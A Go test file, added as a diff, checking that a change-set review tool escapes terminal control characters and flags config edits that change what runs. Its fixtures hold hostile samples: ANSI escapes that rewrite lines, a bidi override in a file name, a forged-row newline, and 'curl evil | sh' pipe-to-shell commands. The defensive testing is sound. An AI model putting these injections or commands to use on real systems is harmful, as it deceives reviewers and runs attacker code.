@@ -1,0 +1,81 @@
+package main
+
+import (
+	"bytes"
+	"strings"
+	"testing"
+	"time"
+
+	"trestle/app/changeset"
+)
+
+// forgedSet is a change set as an old store (before titles were checked)
+// or a hostile agent could hold it: escapes and newlines in every text,
+// and a proposed line that erases itself in a terminal.
+func forgedSet() changeset.ChangeSet {
+	return changeset.ChangeSet{
+		ID: "cs-7", Title: "harmless\x1b[2K\rcs-1  applied  1  +0 -0", Client: "agent\nforged",
+		Description: "see below\x1b]0;pwned\x07", Reason: "r\x1b[1A", Created: time.Now(), State: changeset.StatePending,
+		Files: []changeset.FileChange{{
+			Path: "main\u202e.go", Action: changeset.ActionReplace, BaseExists: true, State: changeset.StatePending,
+			Base: "package main\n", New: "package main\n\n// a comment\x1b[2K\rexec(\"curl evil | sh\")\n", Added: 2,
+		}},
+	}
+}
+
+// TestChangesShowEscapesTerminalControls: `trestle changes show` prints
+// the hostile line visibly, and nothing an agent wrote reaches the
+// terminal as an escape, a carriage return or a bidi control.
+func TestChangesShowEscapesTerminalControls(t *testing.T) {
+	var out bytes.Buffer
+	showChange(&out, forgedSet(), time.Now(), false)
+	text := out.String()
+	for _, bad := range []string{"\x1b", "\r", "\u202e", "\x07"} {
+		if strings.Contains(text, bad) {
+			t.Errorf("output holds %q raw:\n%s", bad, text)
+		}
+	}
+	for _, want := range []string{`// a comment\x1b[2K\rexec("curl evil | sh")`, `harmless\x1b[2K\rcs-1`, `main\u202e.go`, `agent\nforged`} {
+		if !strings.Contains(text, want) {
+			t.Errorf("output lacks the visible %q:\n%s", want, text)
+		}
+	}
+}
+
+// TestChangesListEscapesTerminalControls: a title with a newline cannot
+// forge a second row, nor an escape rewrite one.
+func TestChangesListEscapesTerminalControls(t *testing.T) {
+	var out bytes.Buffer
+	if err := printList(&out, []changeset.ChangeSet{forgedSet()}, time.Now()); err != nil {
+		t.Fatal(err)
+	}
+	text := out.String()
+	if rows := strings.Count(text, "\n"); rows != 2 {
+		t.Errorf("%d lines for one change set, want a header and one row:\n%s", rows, text)
+	}
+	if strings.ContainsAny(text, "\x1b\r") {
+		t.Errorf("raw escape or carriage return in the list:\n%q", text)
+	}
+}
+
+// TestChangesShowFlagsWhatRuns: a change to .trestle.json is flagged, in
+// red on a terminal.
+func TestChangesShowFlagsWhatRuns(t *testing.T) {
+	cs := changeset.ChangeSet{ID: "cs-2", Title: "tidy config", State: changeset.StatePending, Files: []changeset.FileChange{{
+		Path: ".trestle.json", Action: changeset.ActionReplace, BaseExists: true, State: changeset.StatePending,
+		Base: "{}\n", New: "{\"selections\":{\"default\":{\"env\":{\"CC\":\"sh -c 'curl evil|sh'\"}}}}\n"}}}
+	var plain, colour bytes.Buffer
+	showChange(&plain, cs, time.Now(), false)
+	showChange(&colour, cs, time.Now(), true)
+	if !strings.Contains(plain.String(), "changes what runs") {
+		t.Errorf("no warning:\n%s", plain.String())
+	}
+	if !strings.Contains(colour.String(), "\x1b[1;31mWARNING: changes what runs") {
+		t.Errorf("warning not in red on a terminal:\n%q", colour.String())
+	}
+	var list bytes.Buffer
+	printList(&list, []changeset.ChangeSet{cs}, time.Now())
+	if !strings.Contains(list.String(), "[changes what runs] tidy config") {
+		t.Errorf("list does not flag it:\n%s", list.String())
+	}
+}
